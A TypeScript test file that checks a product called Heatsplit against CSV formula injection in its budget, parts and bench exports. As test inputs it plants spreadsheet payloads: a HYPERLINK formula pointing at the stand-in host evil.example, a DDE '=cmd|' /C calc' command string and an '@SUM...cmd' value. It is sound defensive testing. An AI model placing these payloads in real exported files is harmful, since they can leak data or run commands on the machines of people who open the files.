// Attack 6 (low-medium): formula injection in the CSV files Heatsplit
// writes. An option named `Rev B,=HYPERLINK("…")` split the budget CSV's
// first line and planted a formula a spreadsheet would run. Every cell of
// every CSV the product writes (header lines included) must be quoted, and a
// text cell a spreadsheet would read as a formula must start with an apostrophe.
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Client } from "./support/http";
import { closeTestDb, createMember } from "./support/db";
import { createProjectWithOption, signedInClient } from "./support/projects";
import { createPart, getRaw, mosfetBody } from "./support/parts";
import { readingsAround, templateDesign, toCsv, uploadBench } from "./support/bench";

const PAYLOAD = 'Rev B,=HYPERLINK("http://evil.example/?leak","open me")';
let designer: Client;
let optionId: string;

beforeAll(async () => {
  designer = await signedInClient((await createMember("csv-attack", "admin")).email);
  optionId = (await createProjectWithOption(designer)).optionId;
  const renamed = await designer.request("PATCH", `/api/v1/options/${optionId}`, { json: { name: PAYLOAD } });
  expect(renamed.status, renamed.text).toBe(200);
});
afterAll(closeTestDb);

const QUOTED_LINE = /^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$/;
const FORMULA_START = /^[=+\-@\t\r]/;

/** Every line fully quoted; no cell a spreadsheet would evaluate (numbers aside). */
function expectNeutral(text: string, what: string): string[][] {
  const lines = text.replace(/^\uFEFF/, "").split("\r\n").filter((l) => l !== "");
  for (const line of lines) expect(line, `${what}: a line with an unquoted cell`).toMatch(QUOTED_LINE);
  const rows = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
  for (const row of rows) {
    for (const cell of row) {
      if (FORMULA_START.test(cell)) expect(Number.isFinite(Number(cell)), `${what}: formula cell ${cell}`).toBe(true);
    }
  }
  return rows;
}

describe("CSV files Heatsplit writes", () => {
  it("the budget CSV: the option name stays one neutral cell of the first line", async () => {
    const r = await getRaw(designer, `/api/v1/options/${optionId}/revisions/1/report?format=csv`);
    expect(r.status).toBe(200);
    const text = Buffer.from(r.bytes).toString("utf8");
    const rows = expectNeutral(text, "budget");
    // one text cell starting "#": the comma and the "=" inside it are just text
    expect(rows[0]).toHaveLength(1);
    expect(rows[0][0]).toContain(PAYLOAD);
    expect(rows[0][0].startsWith("# Heatsplit budget")).toBe(true);
  });

  it("the parts export", async () => {
    const mpn = `CSV-${Date.now().toString(36)}`;
    await createPart(designer, mosfetBody(mpn, { manufacturer: "=cmd|' /C calc'!A0", description: "@SUM(1+1)*cmd" }));
    const r = await getRaw(designer, `/api/v1/parts/export?q=${mpn}`);
    expect(r.status).toBe(200);
    const rows = expectNeutral(Buffer.from(r.bytes).toString("utf8"), "parts export");
    const row = rows.find((x) => x.includes(mpn))!;
    expect(row).toContain("'=cmd|' /C calc'!A0");
    expect(row).toContain("'@SUM(1+1)*cmd");
  });

  it("the bench file as served back", async () => {
    const readings = readingsAround(templateDesign(), {});
    readings[0].note = '=HYPERLINK("http://evil.example","x")';
    const up = await uploadBench(designer, optionId, toCsv(readings), { revision: 1 });
    expect(up.status, up.text).toBe(201);
    const r = await getRaw(designer, `/api/v1/options/${optionId}/bench/${up.json.run.id}/file`);
    expect(r.status).toBe(200);
    const rows = expectNeutral(Buffer.from(r.bytes).toString("utf8"), "bench file");
    expect(rows.flat()).toContain('\'=HYPERLINK("http://evil.example","x")');
  });
});
